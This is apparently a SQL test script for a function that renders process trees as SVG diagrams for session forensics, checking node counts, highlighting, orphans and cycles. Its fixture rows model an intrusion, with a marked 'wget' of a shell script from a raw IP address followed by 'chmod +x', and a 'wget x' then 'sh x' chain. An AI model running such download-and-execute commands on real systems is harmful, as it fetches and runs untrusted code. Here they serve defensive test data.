-- svg_tree: rows in the order given, children under their parent by key, marks in red,
-- an unknown or NULL parent makes a root, a cycle is cut; over process_tree's output.
.mode list
create table p(k, parent, label, mark);
insert into p values ('a', null, 'sshd: dbadmin', 0), ('b', 'a', '-bash', 0), ('c', 'b', 'wget http://23.97.60.214/QuZYpObins.sh', 1),
                     ('d', 'b', 'chmod +x /tmp/QuZYpObins.sh', 1), ('e', 'zz', 'orphan', 0);
select svg_tree(k, parent, label, mark) from p;
select (length(s) - length(replace(s, '<g class="node', ''))) / 14 as nodes,
       (length(s) - length(replace(s, 'node marked', ''))) / 11 as marked,
       instr(s, 'Tree: 5 nodes, 2 roots') > 0 as titled
from (select svg_tree(k, parent, label, mark) as s from p);
-- A cycle: every node drawn, the first given is the root.
select instr(s, 'Tree: 3 nodes, 1 roots') > 0 from (select svg_tree(k, parent, k) as s from (select 'x' k, 'z' parent union all select 'y', 'x' union all select 'z', 'y'));
-- Over process_tree: the tree of a session, in its depth-first order.
create table ev(pid, ppid, time, cmdline);
insert into ev values (100, 1, '2019-02-18 15:29:22', '-bash'), (101, 100, '2019-02-18 15:30:22', 'id'),
                      (102, 100, '2019-02-18 15:31:32', 'wget x'), (103, 102, '2019-02-18 15:31:33', 'sh x');
select (length(s) - length(replace(s, '<g class="node', ''))) / 14 from
  (select svg_tree(proc_key, parent_key, coalesce(json_extract(extra, '$.cmdline'), '?')) as s
   from (select * from process_tree('select * from ev') order by path));
select svg_tree(1, 2, 3) is not null, svg_tree(null, null, null) is not null;
select svg_tree(k, parent) from p;
